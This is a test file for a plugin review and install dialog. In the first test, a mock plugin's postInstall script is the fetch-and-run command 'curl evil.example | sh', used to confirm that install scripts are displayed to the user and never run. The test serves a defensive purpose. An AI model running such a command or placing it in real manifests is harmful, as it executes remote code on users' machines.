// @vitest-environment happy-dom
import { readFile } from 'node:fs/promises'
import { QueryClient, QueryClientProvider } from '@tanstack/react-query'
import { cleanup, fireEvent, render, screen, waitFor } from '@testing-library/react'
import { afterEach, describe, expect, it } from 'vitest'
import { makeHttpClient } from '../../test/makeHttpClient.ts'
import { definitions } from '../editor/catalogue.ts'
import { makeMemoryStorage } from '../editor/makeCommandContext.ts'
import { createPluginHost } from '../editor/pluginHost.ts'
import { HttpProvider } from '../remote/HttpProvider.tsx'
import { toastStore } from '../ui/notify.ts'
import { PluginsDialog } from './PluginsDialog.tsx'

const text = await readFile('packages/workflow/plugins/network-fee.json', 'utf8')
const manifest = JSON.parse(text) as { id: string; name: string; version: string; description: string }

afterEach(cleanup)

function show(more: object = {}, onInstalled: () => unknown = () => manifest, kept: readonly object[] = []) {
  const asked: string[] = []
  const bodies: unknown[] = []
  const http = makeHttpClient((path, { method, body }) => {
    asked.push(`${method} ${path}`)
    if (path === '/api/plugins/installed' && method === 'GET') return { plugins: kept, warnings: [] }
    if (path === '/api/plugins/installed/kept') return { ...manifest, id: 'kept', name: 'Kept' }
    if (path.startsWith('/api/plugins/installed')) {
      if (typeof body === 'string') bodies.push(JSON.parse(body))
      return onInstalled()
    }
    const listed = [{ ...manifest, author: '', tags: [], components: [], permissions: [], httpHosts: [], scripts: [] }]
    return path.includes('/install/') ? { ...manifest, ...more } : listed
  })
  const host = createPluginHost({ loadBuiltIns: async () => definitions, storage: makeMemoryStorage() })
  render(
    <QueryClientProvider client={new QueryClient({ defaultOptions: { queries: { retry: false } } })}>
      <HttpProvider http={http}>
        <PluginsDialog host={host} onClose={() => {}} />
      </HttpProvider>
    </QueryClientProvider>,
  )
  return { host, asked, bodies }
}

describe('PluginsDialog', () => {
  it('default: what a plugin asks for is shown before it is installed', async () => {
    const { host, asked, bodies } = show({
      permissions: ['blockchain:read'],
      scripts: { postInstall: 'curl evil.example | sh' },
    })
    fireEvent.click(await screen.findByRole('button', { name: `Review ${manifest.name}` }))
    await screen.findByText('blockchain:read')
    expect(screen.getByText('Install scripts are never run.')).toBeTruthy()
    expect(screen.getByText('curl evil.example | sh')).toBeTruthy()
    expect(host.getState().plugins).toEqual([])
    fireEvent.click(screen.getByRole('button', { name: 'Install' }))
    await screen.findByRole('button', { name: `Uninstall ${manifest.name}` })
    expect(host.getState().plugins.map(({ id }) => id)).toEqual([manifest.id])
    fireEvent.click(screen.getByRole('button', { name: `Uninstall ${manifest.name}` }))
    await screen.findByText('No plugins installed')
    await waitFor(() =>
      expect(asked.filter(request => request !== 'GET /api/plugins/installed')).toEqual([
        'GET /api/plugins/registry',
        `POST /api/plugins/install/${manifest.id}`,
        'POST /api/plugins/installed',
        `DELETE /api/plugins/installed/${manifest.id}`,
      ]),
    )
    expect(bodies).toMatchObject([
      { plugin: { id: manifest.id }, consent: { permissions: ['blockchain:read'], httpHosts: [] }, replace: true },
    ])
  })

  it('error: a server that does not keep it is told about, and the page has it', async () => {
    const refusal = {
      code: 'PLUGIN_STORAGE_FULL',
      message: 'The disk is full',
      help: [],
      area: 'SERVER',
      retry: 'never',
    }
    const { host } = show({}, () => Response.json(refusal, { status: 507 }))
    fireEvent.click(await screen.findByRole('button', { name: `Review ${manifest.name}` }))
    fireEvent.click(await screen.findByRole('button', { name: 'Install' }))
    await waitFor(() => expect(toastStore.getState().message).toMatchObject({ tone: 'warn', text: 'The disk is full' }))
    expect(host.getState().plugins).toHaveLength(1)
  })

  it('behavior: what the server keeps can be installed here, after its review', async () => {
    const kept = { id: 'kept', name: 'Kept', version: '1.0.0', description: 'From the command line' }
    const { host } = show({}, undefined, [kept])
    fireEvent.click(await screen.findByRole('button', { name: 'Review Kept' }))
    fireEvent.click(await screen.findByRole('button', { name: 'Install' }))
    await screen.findByRole('button', { name: 'Uninstall Kept' })
    expect(host.getState().plugins.map(({ id }) => id)).toEqual(['kept'])
    expect(screen.queryByText('On the server')).toBeNull()
  })

  it('behavior: a file is read here', async () => {
    const { host } = show()
    await waitFor(() => expect(host.getState().status).toBe('initialized'))
    const input = screen.getByLabelText('Load from file')
    fireEvent.change(input, { target: { files: [new File([text], 'plugin.json')] } })
    await screen.findByRole('heading', { name: `Review ${manifest.name}` })
  })

  it('error: a file that is no plugin says why', async () => {
    const { host } = show()
    await waitFor(() => expect(host.getState().status).toBe('initialized'))
    const input = screen.getByLabelText('Load from file')
    fireEvent.change(input, { target: { files: [new File(['{}'], 'plugin.json')] } })
    await screen.findByText(/Plugin validation failed/)
    expect(host.getState().plugins).toEqual([])
  })
})
